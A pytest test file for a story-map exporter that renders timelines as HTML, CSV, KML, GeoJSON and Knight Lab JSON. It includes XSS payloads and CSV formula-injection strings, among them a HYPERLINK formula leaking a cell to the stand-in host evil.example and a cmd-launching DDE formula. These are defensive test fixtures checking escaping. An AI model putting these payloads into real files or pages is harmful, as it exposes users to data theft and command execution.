"""Tests for storymap.render: the self-contained HTML page and the data exports (no browser)."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from storymap import render as export
from storymap.render import html as html_module, pictures, writer
from storymap.render.basemap import basemap_path, load_basemap
from storymap.errors import OutputError, StorymapError
from storymap.render import (
    date_label,
    embed_snippet,
    to_csv,
    to_geojson,
    to_html,
    to_kml,
    to_storymapjs,
    to_timelinejs,
    write_exports,
)
from storymap.model import PLACE_KINDS
from storymap.story import Source, Step, StepPlace, Story, story_to_dict
from storymap.story.citations import public_story

KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE_TITLE = "</script><script>alert(1)</script>"
HOSTILE_TEXT = '<img src=x onerror="window.__xss=1"> & <img src=x onerror=alert(1)>'


# ---------------------------------------------------------------------------------------------
# Hand-made stories


def place(name, lat, lon, kind="city", role="site", **kw):
    return StepPlace(name, lat, lon, kind, role, **kw)


def gulf_story() -> Story:
    """Five steps: points, a movement, an unplaced name, a range, an undated background step."""
    return Story(
        "Gulf tensions",
        (
            Step("s1", "2019-05-12", "Tankers attacked", "Four tankers were damaged off Fujairah.",
                 (place("Fujairah", 25.12, 56.33), place("Strait of Hormuz", 26.57, 56.25, "water",
                                                         place_id="cur:strait-of-hormuz")),
                 (Source("a.txt", 10, 60, "Four tankers were damaged off Fujairah."),), corroboration=2),
            Step("s2", "2019-06", "Drone shot down", "Iran shot down a US drone.",
                 (place("Tehran", 35.69, 51.42, role="origin"),
                  place("Strait of Hormuz", 26.57, 56.25, "water", "destination")),
                 (Source("a.txt", 100, 150), Source("b.html", 5, 40, "Iran shot down a US drone.")),
                 date_end="2019-07"),
            Step("s3", "2019-07-04", "Tanker seized", "British marines seized a tanker.",
                 (place("Gibraltar", 36.14, -5.35), place("Somewhere", None, None, None)), ()),
            Step("s4", "2019", "Sanctions", "New sanctions.",
                 (place("Iran", 32.0, 53.0, "country", place_id="gn:130758"),), ()),
            Step("s5", None, "Background", "Relations have been tense since 1979.", (), (), tags=("background",)),
        ),
        summary="Attacks on shipping in 2019.",
    )


def hostile_story() -> Story:
    return Story(
        HOSTILE_TITLE,
        (
            Step("x1", "2020-01-03", HOSTILE_TITLE, HOSTILE_TEXT,
                 (place('<img src=x onerror="window.__xss=1">', 33.3, 44.4),),
                 (Source('"><script>alert(1)</script>.txt', 0, 5, HOSTILE_TEXT),)),
            Step("x2", "2020-01-08", "\u2028line\u2029sep </SCRIPT >", "</style><script>alert(1)</script>",
                 (place("Erbil", 36.19, 44.01),), ()),
        ),
        summary=HOSTILE_TEXT,
        metadata={"note": "</script>"},
    )


STORIES = {"gulf": gulf_story, "hostile": hostile_story, "empty": lambda: Story("Nothing yet", ())}


def story_json_block(page: str) -> str:
    m = re.search(r'<script type="application/json" id="story-data">(.*?)</script>', page, re.S)
    assert m, "no story-data block"
    return m.group(1)


# ---------------------------------------------------------------------------------------------
# HTML


@pytest.mark.parametrize("name", sorted(STORIES))
@pytest.mark.parametrize("present", [False, True])
def test_export_html_has_no_external_resources(name, present):
    page = to_html(STORIES[name](), present=present, geometries={})
    assert not re.search(r"<script[^>]+src=", page, re.I)
    assert not re.search(r"<link[^>]+href=[\"']?(https?:)?//", page, re.I)
    assert not re.search(r"<(img|iframe|source|embed)[^>]+src=[\"']?(https?:)?//", page, re.I)
    assert not re.search(r"url\([\"']?(https?:)?//", page, re.I)
    assert "sourceMappingURL" not in page
    # Every absolute URL left is a name, not a load: XML namespaces, and the Leaflet attribution
    # link inside the library (never shown: the page hides Leaflet's attribution prefix).
    urls = set(re.findall(r"https?://[^\s\"'<>)]+", page))
    assert urls <= {"http://www.w3.org/2000/svg", "https://leafletjs.com"}, urls


def test_export_html_tiles_are_opt_in():
    story = gulf_story()
    assert "tile.openstreetmap.org" not in to_html(story, geometries={})
    page = to_html(story, tiles=True, geometries={})
    assert "tile.openstreetmap.org" in page
    # Only as data in the JSON block (the layer is built when the reader ticks the box), never a src.
    assert not re.search(r"(src|href)=[\"']https?://[^\"']*openstreetmap", page)


@pytest.mark.parametrize("name", sorted(STORIES))
def test_export_html_story_json_is_the_public_story(name):
    story = STORIES[name]()
    block = story_json_block(to_html(story, geometries={}))
    assert json.loads(block) == story_to_dict(public_story(story))


@pytest.mark.parametrize("needle", [
    HOSTILE_TITLE, "<script>alert(1)", "<img src=x", 'onerror="window', "</style><script>", "\u2028", "\u2029",
    "</SCRIPT >",
])
def test_export_html_hostile_text_stays_escaped(needle):
    page = to_html(hostile_story(), geometries={})
    assert needle.lower() not in page.lower()
    # The page's own scripts: the blocks we wrote plus Leaflet and the app, nothing injected.
    assert len(re.findall(r"<script\b", page, re.I)) == 8  # + the labels data and script


def test_export_html_never_uses_inner_html_with_story_data():
    js = (Path(html_module.__file__).parent / "static" / "story.js").read_text(encoding="utf-8")
    assert "innerHTML" not in js
    assert "insertAdjacentHTML" not in js
    assert "document.write" not in js


def test_export_html_page_structure():
    page = to_html(gulf_story(), geometries={"gn:130758": {"type": "Point", "coordinates": [53, 32]}})
    assert re.search(r'<html lang="en">', page)
    assert '<meta name="viewport"' in page
    assert "@media (max-width" in page
    for needle in ('id="prev"', "Previous step", 'id="next"', "Next step", 'id="play"', 'id="present-toggle"',
                   '<details id="all-steps"', 'for="pace"', 'aria-label="Map of the story"'):
        assert needle in page
    geo = re.search(r'id="geometry-data">(.*?)</script>', page, re.S).group(1)
    assert json.loads(geo) == {"gn:130758": {"type": "Point", "coordinates": [53, 32]}}
    view = json.loads(re.search(r'id="view-data">(.*?)</script>', page, re.S).group(1))
    assert view["dates"] == ["12 May 2019", "June 2019 – July 2019", "4 July 2019", "2019", ""]
    assert view["present"] is False
    assert '<body class="present">' in to_html(gulf_story(), present=True, geometries={})


def test_export_html_inlines_the_basemap():
    page = to_html(gulf_story(), geometries={})
    block = re.search(r'id="basemap-data">(.*?)</script>', page, re.S).group(1)
    assert json.loads(block) == load_basemap()


def test_export_html_lang_from_metadata():
    s = Story("Titre", (), metadata={"language": "fr"})
    assert '<html lang="fr">' in to_html(s, geometries={})
    bad = Story("T", (), metadata={"language": '"><script>'})
    assert '<html lang="en">' in to_html(bad, geometries={})


def test_export_step_geometries_without_gazetteer_is_empty():
    class NoGeometry:
        def geometry_wkb(self, place_id):
            return None

    assert export.step_geometries(gulf_story(), None) == {}
    assert export.step_geometries(gulf_story(), NoGeometry()) == {}


@pytest.mark.parametrize("blob", [b"not wkb", b"\x01\x03\x00\x00\x00", b"\x00" * 40])
def test_export_step_geometries_skips_a_damaged_shape_and_keeps_the_others(blob):
    from shapely.geometry import Polygon

    square = Polygon([(53.0, 32.0), (54.0, 32.0), (54.0, 33.0), (53.0, 33.0)])

    class OneDamaged:
        def geometry_wkb(self, place_id):
            return square.wkb if place_id == "gn:130758" else blob

    assert list(export.step_geometries(gulf_story(), OneDamaged())) == ["gn:130758"]


def test_export_step_geometries_lets_a_broken_gazetteer_surface():
    class Broken:
        def geometry_wkb(self, place_id):
            raise OSError("database is gone")

    with pytest.raises(OSError, match="database is gone"):
        export.step_geometries(gulf_story(), Broken())


def test_export_step_geometries_simplifies_and_rounds():
    from shapely.geometry import Polygon

    square = Polygon([(53.123456, 32.0), (54.0, 32.0), (54.0, 33.0), (53.5, 33.0000001), (53.123456, 33.0)])

    class Gaz:
        def geometry_wkb(self, place_id):
            return square.wkb if place_id == "gn:130758" else None

    geoms = export.step_geometries(gulf_story(), Gaz())
    assert list(geoms) == ["gn:130758"]
    ring = geoms["gn:130758"]["coordinates"][0]
    assert [53.123, 32.0] in ring and len(ring) == 5  # the near-collinear point is gone


# ---------------------------------------------------------------------------------------------
# Basemap


def test_basemap_is_small_and_well_formed():
    assert basemap_path().stat().st_size < 1_500_000
    fc = load_basemap()
    assert fc["type"] == "FeatureCollection" and len(fc["features"]) > 150
    isos = [f["properties"]["iso2"] for f in fc["features"]]
    assert len(isos) == len(set(isos)) and {"IQ", "IR", "US", "FR"} <= set(isos)
    for f in fc["features"]:
        assert set(f["properties"]) == {"name", "iso2"}
        assert f["geometry"]["type"] in ("Polygon", "MultiPolygon")
    load_basemap()["features"].clear()  # callers get a copy
    assert load_basemap()["features"]


# ---------------------------------------------------------------------------------------------
# Embed snippet


@pytest.mark.parametrize("src, width, ratio", [
    ("gulf.html", "100%", "16 / 10"),
    ("https://example.org/maps/gulf.html?a=1&b=2", 800, "800 / 600"),
    (Path("out") / "gulf story.html", "60rem", "16 / 10"),
])
def test_export_embed_snippet(src, width, ratio):
    snippet = embed_snippet(src, width=width, height=600, title='Gulf "tensions"')
    frame = re.search(r"<iframe\b([^>]*)>", snippet).group(1)
    assert 'title="Gulf &quot;tensions&quot;"' in frame
    assert 'loading="lazy"' in frame
    assert f"aspect-ratio:{ratio}" in snippet and "max-height:600px" in snippet
    assert "&b=" not in snippet  # ampersands in the URL are escaped


@pytest.mark.parametrize("src, expected", [
    (Path("flood: day 1 #2.html"), "flood%3A%20day%201%20%232.html?embed=1"),
    ("maps/a?b.html", "maps/a%3Fb.html?embed=1"),
    ("/home/reporter/exports/gulf.html", "gulf.html?embed=1"),  # never where the file lies
    (Path("C:\\Users\\r\\gulf.html"), "gulf.html?embed=1"),
    ("https://example.org/gulf.html?a=1#step-3", "https://example.org/gulf.html?a=1&embed=1#step-3"),
])
def test_export_embed_src_is_encoded_and_asks_for_the_frame_layout(src, expected):
    from storymap.render.html import embed_src

    assert embed_src(src) == expected


@pytest.mark.parametrize("kwargs", [
    {"html_path_or_url": "javascript:alert(1)"},
    {"html_path_or_url": "data:text/html,<script>"},
    {"html_path_or_url": "a.html", "width": "100%; background:url(x)"},
    {"html_path_or_url": "a.html", "height": 0},
])
def test_export_embed_snippet_rejects_bad_values(kwargs):
    with pytest.raises(ValueError):
        embed_snippet(**kwargs)


# ---------------------------------------------------------------------------------------------
# StoryMapJS, TimelineJS


@pytest.mark.parametrize("name", ["gulf", "hostile"])
def test_export_storymapjs_slides(name):
    story = STORIES[name]()
    data = to_storymapjs(story)
    slides = data["storymap"]["slides"]
    assert len(slides) == 1 + len(story.steps)
    assert slides[0]["type"] == "overview"
    assert slides[0]["text"]["headline"]
    for slide in slides[1:]:
        loc = slide["location"]
        assert isinstance(loc["lat"], float) and isinstance(loc["lon"], float)
        assert -90 <= loc["lat"] <= 90 and -180 <= loc["lon"] <= 180
        assert isinstance(loc["zoom"], int) and isinstance(loc["line"], bool)
        assert isinstance(slide["text"]["headline"], str)
        assert "type" not in slide
    text = json.dumps(data)
    assert "<script" not in text and "<img" not in text


def test_export_storymapjs_zoom_and_borrowed_locations():
    slides = to_storymapjs(gulf_story())["storymap"]["slides"]
    assert slides[1]["location"]["zoom"] <= 8  # a city and a strait
    assert slides[4]["location"]["zoom"] == 4  # a country
    assert slides[1]["date"] == "12 May 2019"
    # The undated step has no place: it shows the previous slide's location, without a line.
    assert slides[5]["location"]["lat"] == slides[4]["location"]["lat"]
    assert slides[5]["location"]["line"] is False
    assert slides[1]["location"]["line"] is True


def test_export_storymapjs_without_any_place_has_no_location():
    story = Story("T", (Step("a", None, "A", "", (), ()),))
    slides = to_storymapjs(story)["storymap"]["slides"]
    assert "location" not in slides[1]


def test_export_timelinejs_events():
    data = to_timelinejs(gulf_story())
    assert data["title"]["text"]["headline"] == "Gulf tensions"
    events = data["events"]
    assert [e["unique_id"] for e in events] == ["s1", "s2", "s3", "s4"]  # s5 is undated
    assert events[0]["start_date"] == {"year": 2019, "month": 5, "day": 12}
    assert events[1]["start_date"] == {"year": 2019, "month": 6}
    assert events[1]["end_date"] == {"year": 2019, "month": 7}
    assert events[3]["start_date"] == {"year": 2019}
    for e in events:
        assert isinstance(e["start_date"]["year"], int)
        assert e["text"]["headline"]


def test_export_timelinejs_escapes_html():
    text = json.dumps(to_timelinejs(hostile_story()))
    assert "<script" not in text and "<img" not in text and "&lt;script&gt;" in text


# ---------------------------------------------------------------------------------------------
# GeoJSON, KML, CSV


def test_export_geojson_points_and_movements():
    fc = to_geojson(gulf_story())
    assert fc["type"] == "FeatureCollection"
    points = [f for f in fc["features"] if f["geometry"]["type"] == "Point"]
    lines = [f for f in fc["features"] if f["geometry"]["type"] == "LineString"]
    assert len(points) == 6  # "Somewhere" is not placed
    for f in points:
        lon, lat = f["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert {"step_id", "step_index", "date", "title", "place", "kind", "role"} <= set(f["properties"])
    assert points[0]["geometry"]["coordinates"] == [56.33, 25.12]  # lon first
    assert len(lines) == 1
    assert lines[0]["geometry"]["coordinates"] == [[51.42, 35.69], [56.25, 26.57]]
    assert lines[0]["properties"]["step_id"] == "s2" and lines[0]["properties"]["date"] == "2019-06"


def test_export_kml_parses_with_placemarks_and_times():
    story = gulf_story()
    root = ET.fromstring(to_kml(story))
    assert root.tag == f"{KML}kml"
    folders = {f.findtext(f"{KML}name"): f for f in root.iter(f"{KML}Folder")}
    placemarks = folders["Steps"].findall(f"{KML}Placemark")
    assert len(placemarks) == sum(1 for s in story.steps for p in s.places if p.lat is not None)
    whens = [pm.findtext(f"{KML}TimeStamp/{KML}when") for pm in placemarks]
    assert whens == ["2019-05-12", "2019-05-12", None, None, "2019-07-04", "2019"]
    span = placemarks[2].find(f"{KML}TimeSpan")
    assert span.findtext(f"{KML}begin") == "2019-06" and span.findtext(f"{KML}end") == "2019-07"
    assert placemarks[0].findtext(f"{KML}Point/{KML}coordinates") == "56.33,25.12"
    assert len(folders["Movements"].findall(f"{KML}Placemark")) == 1


def test_export_kml_escapes_text():
    text = to_kml(hostile_story())
    root = ET.fromstring(text)
    names = [pm.findtext(f"{KML}name") for pm in root.iter(f"{KML}Placemark")]
    assert names[0] == f"1. {HOSTILE_TITLE} — <img src=x onerror=\"window.__xss=1\">"
    assert "<script>" not in text


def test_export_csv_rows():
    story = gulf_story()
    rows = list(csv.DictReader(io.StringIO(to_csv(story))))
    assert list(rows[0]) == list(export.CSV_COLUMNS)
    assert len(rows) == sum(max(1, len(s.places)) for s in story.steps)
    first = rows[0]
    assert (first["step_id"], first["index"], first["date"], first["place"]) == ("s1", "1", "2019-05-12", "Fujairah")
    assert float(first["lat"]) == 25.12 and float(first["lon"]) == 56.33
    assert first["sources"] == "a.txt"
    assert rows[2]["sources"] == "a.txt; b.html"
    unplaced = [r for r in rows if r["place"] == "Somewhere"][0]
    assert unplaced["lat"] == "" and unplaced["lon"] == ""
    assert rows[-1]["step_id"] == "s5" and rows[-1]["place"] == ""


def test_export_date_label():
    assert date_label(None) == ""
    assert date_label("2019-05-02") == "2 May 2019"
    assert date_label("2019-05", "2019-05") == "May 2019"


# ---------------------------------------------------------------------------------------------
# Property test: GeoJSON points carry the story's coordinates, lon first

lats = st.floats(min_value=-90, max_value=90, allow_nan=False)
lons = st.floats(min_value=-180, max_value=180, allow_nan=False)
names = st.text(min_size=1, max_size=15).filter(lambda s: s.strip())


@st.composite
def step_places(draw):
    if draw(st.integers(0, 4)) == 0:
        return StepPlace(draw(names), None, None, None)
    return StepPlace(draw(names), draw(lats), draw(lons), draw(st.none() | st.sampled_from(PLACE_KINDS)),
                     draw(st.sampled_from(["site", "origin", "destination"])))


@st.composite
def stories(draw):
    n = draw(st.integers(0, 5))
    steps = tuple(
        Step(f"s{i}", draw(st.none() | st.sampled_from(["2019", "2019-05", "2019-05-12"])), draw(st.text(max_size=20)),
             draw(st.text(max_size=30)), tuple(draw(st.lists(step_places(), max_size=4))), ())
        for i in range(n)
    )
    return Story(draw(st.text(max_size=20)), steps)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(stories())
def test_export_geojson_round_trip(story):
    fc = json.loads(json.dumps(to_geojson(story)))
    points = [f for f in fc["features"] if f["geometry"]["type"] == "Point"]
    expected = [(s.id, p.lon, p.lat) for s in story.steps for p in s.places if p.lat is not None]
    assert [(f["properties"]["step_id"], *f["geometry"]["coordinates"]) for f in points] == expected
    n_lines = sum(
        sum(p.role == "origin" and p.lat is not None for p in s.places)
        * sum(p.role == "destination" and p.lat is not None for p in s.places)
        for s in story.steps
    )
    assert len(fc["features"]) - len(points) == n_lines


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(stories())
def test_export_text_formats_parse_for_any_story(story):
    root = ET.fromstring(to_kml(story))
    n_points = sum(1 for s in story.steps for p in s.places if p.lat is not None)
    assert sum(1 for _ in root.iter(f"{KML}Point")) == n_points
    rows = list(csv.reader(io.StringIO(to_csv(story))))
    assert len(rows) == 1 + sum(max(1, len(s.places)) for s in story.steps)
    for row in rows[1:]:
        if row[6]:
            assert math.isfinite(float(row[6])) and math.isfinite(float(row[7]))
    assert len(to_storymapjs(story)["storymap"]["slides"]) == 1 + len(story.steps)
    assert json.loads(story_json_block(to_html(story, geometries={}))) == story_to_dict(story)


# ---------------------------------------------------------------------------------------------
# Writers


def test_export_write_exports_writes_every_file(tmp_path):
    story = gulf_story()
    out = {
        "html": tmp_path / "gulf.html",
        "embed": tmp_path / "embed.html",
        "storymapjs": tmp_path / "storymap.json",
        "timelinejs": tmp_path / "timeline.json",
        "geojson": tmp_path / "gulf.geojson",
        "kml": tmp_path / "gulf.kml",
        "csv": tmp_path / "gulf.csv",
    }
    written = write_exports(story, geometries={}, **out)
    assert written == list(out.values())
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in out.values())  # no temp files
    assert json.loads(out["storymapjs"].read_text())["storymap"]["slides"][0]["type"] == "overview"
    assert json.loads(out["geojson"].read_text())["type"] == "FeatureCollection"
    ET.fromstring(out["kml"].read_text(encoding="utf-8"))
    assert 'src="gulf.html?embed=1"' in out["embed"].read_text()
    assert out["html"].read_text(encoding="utf-8") == to_html(story, geometries={})


def test_export_write_exports_replaces_atomically(tmp_path, monkeypatch):
    target = tmp_path / "gulf.geojson"
    target.write_text("old")

    def fail_replace(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(writer.os, "replace", fail_replace)
    with pytest.raises(OutputError) as info:
        write_exports(gulf_story(), geojson=target)
    assert str(target) in str(info.value) and "No space left" in str(info.value)
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["gulf.geojson"]


@pytest.mark.parametrize("fmt", ["html", "geojson", "kml", "csv", "storymapjs", "timelinejs"])
def test_export_write_exports_parent_is_a_file(tmp_path, fmt):
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    path = blocker / f"out.{fmt}"
    with pytest.raises(OutputError) as info:
        write_exports(gulf_story(), geometries={}, **{fmt: path})
    message = str(info.value)
    assert "\n" not in message and str(path) in message
    assert isinstance(info.value, OSError) and isinstance(info.value, StorymapError)


def test_export_write_exports_target_is_a_directory(tmp_path):
    with pytest.raises(OutputError, match="is a directory"):
        write_exports(gulf_story(), csv=tmp_path)


def test_export_write_pngs_without_chromium(monkeypatch, tmp_path):
    monkeypatch.setattr(pictures.shutil, "which", lambda name: None)
    page = tmp_path / "s.html"
    page.write_text("<html></html>")
    with pytest.raises(StorymapError, match="apt-get install chromium") as info:
        export.write_pngs(page, tmp_path / "png", 2)
    assert "\n" not in str(info.value)
    assert not (tmp_path / "png").exists()


def test_export_module_exports_are_documented():
    doc = (Path(__file__).resolve().parent.parent / "docs" / "export.md").read_text(encoding="utf-8")
    for name in export.__all__:
        if name[0].islower():
            assert f"{name}(" in doc or f"`{name}`" in doc, name
    assert os.fspath(basemap_path()).endswith("geodata/basemap.geojson")


# ---------------------------------------------------------------------------------------------------
# CSV formula injection, and only valid stories reach a writer

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["step_id", "title", "place", "sources"])
def test_export_csv_neutralises_formula_cells(formula, column):
    src = (Source(formula if column == "sources" else "a.txt", 0, 5),)
    step = Step(formula if column == "step_id" else "s1", "2019-05", formula if column == "title" else "Tankers",
                "", (place(formula if column == "place" else "Fujairah", 25.1, -56.3),), src)
    row = list(csv.DictReader(io.StringIO(to_csv(Story("T", (step,))))))[0]
    assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r")
    if column != "sources" or "/" not in formula:  # a source is cited by its base name, after any "/"
        assert row[column].startswith("'" + formula[:1])
    assert row["lon"] == "-56.3"  # numbers stay numbers, minus sign included


def test_export_csv_keeps_ordinary_text_as_is():
    step = Step("s1", "2019", "Tankers hit — 4 damaged", "", (place("Fujairah", 25.1, 56.3),), ())
    row = list(csv.DictReader(io.StringIO(to_csv(Story("T", (step,))))))[0]
    assert (row["title"], row["place"]) == ("Tankers hit — 4 damaged", "Fujairah")


@pytest.mark.parametrize("story, field", [
    (Story("bad \ud800 title", ()), "title"),
    (Story("T", (Step("s1", None, "t", "", (place("Fuj\udfffairah", 25.1, 56.3),), ()),)), "steps[0].places[0].name"),
    (Story("T", (Step("s1", None, "t", "", (place("X", float("nan"), 56.3),), ()),)), "steps[0].places[0].lat"),
    (Story("T", (Step("s1", None, "t", "", (place("X", 10**400, 56.3),), ()),)), "steps[0].places[0].lat"),
])
@pytest.mark.parametrize("fmt", ["html", "csv", "kml", "geojson", "storymapjs", "timelinejs"])
def test_export_write_exports_refuses_an_invalid_story_naming_the_field(tmp_path, story, field, fmt):
    out = tmp_path / f"out.{fmt}"
    with pytest.raises(StorymapError) as info:
        export.write_exports(story, geometries={}, **{fmt: out})
    assert str(info.value).startswith(f"{field}: ") and "\n" not in str(info.value)
    assert not out.exists()


@pytest.mark.parametrize("extra", [[], ["--html", "page.html"]])
def test_export_cli_png_without_chromium_is_one_line_naming_the_fix(tmp_path, monkeypatch, capsys, extra):
    from storymap.cli import main
    from storymap.story import save_story

    story = save_story(gulf_story(), tmp_path / "gulf.json")
    monkeypatch.setattr(pictures.shutil, "which", lambda name: None)
    monkeypatch.chdir(tmp_path)
    status = main(["export", str(story), "--png", "shots", *extra])
    err = capsys.readouterr().err.strip()
    assert status == 2
    assert err.count("\n") == 0 and "apt-get install chromium" in err and "Traceback" not in err
    assert not (tmp_path / "shots").exists()


# ---------------------------------------------------------------------------------------------
# Version-2 stories: the overview step first, headlines, the step's site


def shaped_story() -> Story:
    """The gulf story with headlines, a site that is not the first place, and its overview step."""
    from dataclasses import replace

    from storymap.story.shape import add_overview

    base = gulf_story()
    s1 = replace(base.steps[0], headline="Four tankers damaged off Fujairah", site=1)
    return add_overview(replace(base, steps=(s1, *base.steps[1:])), keep_title=True)


def test_export_storymapjs_overview_slide_is_the_overview_step():
    story = shaped_story()
    slides = to_storymapjs(story)["storymap"]["slides"]
    assert len(slides) == len(story.steps)  # the overview step is the overview slide, not a slide of its own
    assert slides[0]["type"] == "overview"
    assert slides[0]["text"]["headline"] == "Gulf tensions"
    assert story.steps[0].text in slides[0]["text"]["text"]
    assert all("type" not in s for s in slides[1:])


@pytest.mark.parametrize("index, lat, lon", [(1, 26.57, 56.25), (3, 36.14, -5.35)])
def test_export_storymapjs_slide_sits_at_the_steps_site(index, lat, lon):
    slides = to_storymapjs(shaped_story())["storymap"]["slides"]
    assert (slides[index]["location"]["lat"], slides[index]["location"]["lon"]) == (lat, lon)


def test_export_knightlab_headlines_are_shown_and_fall_back_to_titles():
    slides = to_storymapjs(shaped_story())["storymap"]["slides"]
    assert [s["text"]["headline"] for s in slides[1:3]] == ["Four tankers damaged off Fujairah", "Drone shot down"]
    tl = to_timelinejs(shaped_story())
    assert tl["title"]["text"]["headline"] == "Gulf tensions"
    assert "overview" not in [e["unique_id"] for e in tl["events"]]
    assert tl["events"][0]["text"]["headline"] == "Four tankers damaged off Fujairah"


def test_export_timelinejs_background_steps_are_grouped():
    from dataclasses import replace

    base = gulf_story()
    story = replace(base, steps=(replace(base.steps[0], kind="background"), *base.steps[1:]))
    assert to_timelinejs(story)["events"][0]["group"] == "Background"


def test_export_geo_formats_carry_headline_kind_and_precision_and_skip_the_overview():
    story = shaped_story()
    rows = list(csv.DictReader(io.StringIO(to_csv(story))))
    assert "overview" not in {r["step_id"] for r in rows}
    first = rows[0]
    assert (first["index"], first["headline"], first["step_kind"], first["date_precision"]) == \
        ("2", "Four tankers damaged off Fujairah", "event", "day")
    feats = to_geojson(story)["features"]
    assert feats[0]["properties"]["step_index"] == 2 and feats[0]["properties"]["headline"] == "Four tankers damaged off Fujairah"
    assert {f["properties"]["step_kind"] for f in feats} <= {"event", "background"}
    kml = ET.fromstring(to_kml(story))
    names = [pm.find(f"{KML}name").text for pm in kml.iter(f"{KML}Placemark")]
    assert names[0].startswith("2. Four tankers damaged off Fujairah — ")
    data = {d.get("name"): d.find(f"{KML}value").text for d in next(kml.iter(f"{KML}Placemark")).iter(f"{KML}Data")}
    assert data["step_kind"] == "event" and data["date_precision"] == "day"


@pytest.mark.parametrize("name, kind", [("Iraq", "country"), ("Baghdad", "capital"), ("Persian Gulf", "water"),
                                        ("Pacific Ocean", "water"), ("Karachi", "city")])
def test_export_basemap_labels_name_countries_seas_and_cities(name, kind):
    from storymap.render.basemap import load_labels

    rows = load_labels()
    assert any(r[0] == name and r[3] == kind for r in rows)
    assert [r[5] for r in rows] == sorted(r[5] for r in rows)
    assert all(-90 <= r[1] <= 90 and -180 <= r[2] <= 180 and 1 <= r[4] <= 8 for r in rows)


def test_export_html_inlines_the_labels_once():
    from storymap.render.basemap import load_labels

    page = to_html(Story("T", ()), geometries={})
    block = re.search(r'<script type="application/json" id="labels-data">(.*?)</script>', page, re.S).group(1)
    assert [tuple(r) for r in json.loads(block)] == list(load_labels())


def test_export_basemap_labels_rebuild_matches_the_committed_file(tmp_path, real_gaz):
    import subprocess
    import sys

    from storymap.places.gazetteer import default_gazetteer_path
    from storymap.render.basemap import labels_path

    out = tmp_path / "labels.json"
    r = subprocess.run([sys.executable, str(labels_path().with_name("build_labels.py")), "--out", str(out),
                        "--gazetteer", str(default_gazetteer_path())], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert out.read_text(encoding="utf-8") == labels_path().read_text(encoding="utf-8")


@pytest.mark.parametrize("shoot", ["pngs", "handout"])
def test_export_pictures_without_playwright_is_a_one_line_error(monkeypatch, tmp_path, shoot):
    import sys

    from storymap.render.pictures import BrowserMissingError, write_handout

    monkeypatch.setattr(pictures.shutil, "which", lambda name: "/usr/bin/chromium")
    monkeypatch.setitem(sys.modules, "playwright.sync_api", None)  # the package is not installed
    page = tmp_path / "s.html"
    page.write_text("<html></html>")
    with pytest.raises(BrowserMissingError, match="playwright") as info:
        if shoot == "pngs":
            export.write_pngs(page, tmp_path / "png", 2)
        else:
            write_handout(page, tmp_path / "h.pdf", Story("T", ()))
    assert "\n" not in str(info.value)
